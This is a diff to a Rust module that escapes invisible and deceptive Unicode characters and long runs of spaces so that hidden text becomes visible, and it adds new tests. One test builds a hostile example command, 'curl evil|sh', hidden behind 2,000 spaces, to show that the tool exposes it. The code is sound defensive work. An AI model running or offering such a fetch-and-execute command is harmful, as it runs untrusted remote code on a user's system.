@@ -1,8 +1,9 @@
 //! Text of others, so that nothing hides in it.
 
-use std::{collections::BTreeSet, fmt::Write as _};
+use std::{collections::BTreeSet, fmt::Write as _, sync::LazyLock};
 
-use unicode_normalization::UnicodeNormalization as _;
+use regex::Regex;
+use unicode_normalization::{UnicodeNormalization as _, char::is_combining_mark};
 use unicode_security::{MixedScript as _, skeleton};
 
 /// So many spaces can push what follows out of sight.
@@ -11,18 +12,32 @@ const MANY_SPACES: usize = 16;
 /// No code is indented further.
 const DEEPEST: usize = 64;
 
-/// The text with every character that hides or reorders others written out, and long rows of spaces
-/// counted.
+/// Characters that are not visibly themselves: controls, format characters, unassigned and private ones,
+/// enclosing marks, variation selectors, fillers, blank symbols, and spaces that are not the usual one.
+/// The page has the same pattern; a test compares the two.
+const HIDDEN: &str = r"[\p{Cc}\p{Cf}\p{Cn}\p{Co}\p{Zl}\p{Zp}\p{Me}\u00a0\u1680\u2000-\u200a\u202f\u205f\u3000\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u2800\u303f\u3164\ufe00-\ufe0f\uffa0\ufffc\u{13441}\u{13442}\u{16fe4}\u{1d159}\u{e0100}-\u{e01ef}]";
+
+/// More marks on one character cover what is around it. Vietnamese has two.
+const MAX_MARKS: usize = 2;
+
+/// The text with every character written out that is not visibly itself, and long rows of spaces counted.
+/// Marks stay on letters that are not ASCII, and only few of them.
 pub(crate) fn visible(text: &str) -> String {
     let mut out = String::with_capacity(text.len());
-    let mut spaces = 0;
+    let (mut spaces, mut base, mut marks) = (0, ' ', 0);
     for c in text.chars() {
+        if is_combining_mark(c) {
+            marks += 1;
+        } else {
+            (base, marks) = (c, 0);
+        }
         if c == ' ' {
             spaces += 1;
             continue;
         }
         push_spaces(&mut out, std::mem::take(&mut spaces));
-        if c.is_control() || is_invisible(c) || (c.is_whitespace() && c != ' ') {
+        let covers = marks > MAX_MARKS || (marks > 0 && base.is_ascii());
+        if covers || is_hidden(c) {
             out.extend(c.escape_unicode());
         } else {
             out.push(c);
@@ -38,7 +53,7 @@ pub(crate) fn readable(text: &str) -> String {
     let mut out = String::with_capacity(text.len());
     for c in text.chars() {
         let stays = matches!(c, '\n' | '\t' | '\u{200d}' | '\u{fe0f}');
-        if !stays && (c.is_control() || is_invisible(c)) {
+        if !stays && is_hidden(c) {
             out.extend(c.escape_unicode());
         } else {
             out.push(c);
@@ -68,26 +83,27 @@ fn push_spaces(out: &mut String, count: usize) {
     }
 }
 
-/// Zero width, direction marks, fillers, variation selectors, tags and other format characters.
-const fn is_invisible(c: char) -> bool {
-    matches!(c,
-        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
-        | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
-        | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}'
-        | '\u{ffa0}' | '\u{fff9}'..='\u{fffb}' | '\u{1bca0}'..='\u{1bca3}'
-        | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
+/// Whether a character is not visibly itself, wherever it stands.
+fn is_hidden(c: char) -> bool {
+    static PATTERN: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(HIDDEN).ok());
+    if c.is_ascii() {
+        return c.is_ascii_control();
+    }
+    // Without the pattern nothing but ASCII is shown.
+    PATTERN.as_ref().is_none_or(|pattern| pattern.is_match(c.encode_utf8(&mut [0; 4])))
 }
 
 /// Warns about words that look like other words, and about characters nobody sees.
 pub(crate) fn warnings(text: &str) -> Vec<String> {
-    let words = text.split(|c: char| !c.is_alphanumeric() && !is_invisible(c));
+    let words =
+        text.split(|c: char| !c.is_alphanumeric() && !is_hidden(c) && !is_combining_mark(c));
     let words: BTreeSet<_> = words.filter(|word| !word.is_ascii()).collect();
     words.into_iter().filter_map(warning).collect()
 }
 
 fn warning(word: &str) -> Option<String> {
     let shown = visible(word);
-    if word.chars().any(is_invisible) {
+    if word.chars().any(is_hidden) {
         return Some(format!("`{shown}` has characters that cannot be seen"));
     }
     let usual: String = word.nfkc().collect();
@@ -103,7 +119,7 @@ fn warning(word: &str) -> Option<String> {
 
 #[cfg(test)]
 mod tests {
-    use super::{visible, visible_code, warnings};
+    use super::{HIDDEN, MAX_MARKS, visible, visible_code, warnings};
 
     /// Advisories approval-001, approval-003, approval-004, approval-007, approval-009, exec-015.
     #[test]
@@ -131,6 +147,37 @@ mod tests {
         );
         let pushed = format!("grep x f ;{}; curl evil|sh", " ".repeat(2_000));
         assert_eq!(visible(&pushed), "grep x f ;⟨2000 spaces⟩; curl evil|sh");
+    }
+
+    /// Whatever is not visibly itself is written out.
+    #[test]
+    fn only_what_is_visibly_itself_is_shown() {
+        for (text, expected) in [
+            // Unassigned, private use, and what is no character.
+            ("a\u{378}b\u{e000}c\u{f0000}d\u{fdd0}", "a\\u{378}b\\u{e000}c\\u{f0000}d\\u{fdd0}"),
+            // A note without a head, the mark of an embedded object, and other blanks.
+            ("a\u{1d159}b\u{fffc}c\u{303f}", "a\\u{1d159}b\\u{fffc}c\\u{303f}"),
+            ("a\u{13441}\u{16fe4}", "a\\u{13441}\\u{16fe4}"),
+            // Marks that strike letters out, surround or cover them.
+            ("r\u{336}m\u{20e0}", "r\\u{336}m\\u{20e0}"),
+            ("\u{301}x", "\\u{301}x"),
+            ("é\u{301}\u{301}\u{301}", "é\u{301}\u{301}\\u{301}"),
+            ("漢\u{20dd}", "漢\\u{20dd}"),
+            ("e\u{301}", "e\\u{301}"),
+            // Languages that write with marks stay readable.
+            ("हिन्दी สวัสดี tiếng Việt שָׁלוֹם", "हिन्दी สวัสดี tiếng Việt שָׁלוֹם"),
+            ("😀 привет ½ → ✓", "😀 привет ½ → ✓"),
+        ] {
+            assert_eq!(visible(text), expected, "{text:?}");
+        }
+    }
+
+    /// One rule for the terminal, MCP clients and the page.
+    #[test]
+    fn the_page_hides_nothing_either() {
+        let page = include_str!("../../server/assets/page.html");
+        assert!(page.contains(&format!("const hidden = /{HIDDEN}/u;")));
+        assert!(page.contains(&format!("const maxMarks = {MAX_MARKS};")));
     }
 
     /// Advisory approval-006.
